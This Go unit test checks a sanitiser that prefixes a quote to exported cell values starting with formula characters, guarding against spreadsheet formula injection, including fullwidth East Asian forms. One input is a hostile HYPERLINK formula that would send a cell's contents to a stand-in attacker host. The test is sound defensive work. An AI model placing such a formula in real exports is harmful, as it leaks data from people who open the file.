package console

import "testing"

func TestHarmless(t *testing.T) {
	t.Parallel()
	for s, want := range map[string]string{
		"": "", "Ada": "Ada", "a=b": "a=b", "é=": "é=",
		`=HYPERLINK("http://evil.example.org?"&A1)`: `'=HYPERLINK("http://evil.example.org?"&A1)`,
		"+1":       "'+1",
		"-1":       "'-1",
		"@SUM(A1)": "'@SUM(A1)",
		"\t=1":     "'\t=1",
		"\n=1":     "'\n=1",
		"\r=1":     "'\r=1",
		"＝1":       "'＝1", // spreadsheets in East Asian languages read the wide forms, too
		"＠SUM(A1)": "'＠SUM(A1)",
	} {
		if got := harmless(s); got != want {
			t.Errorf("%q is exported as %q, want %q", s, got, want)
		}
	}
}
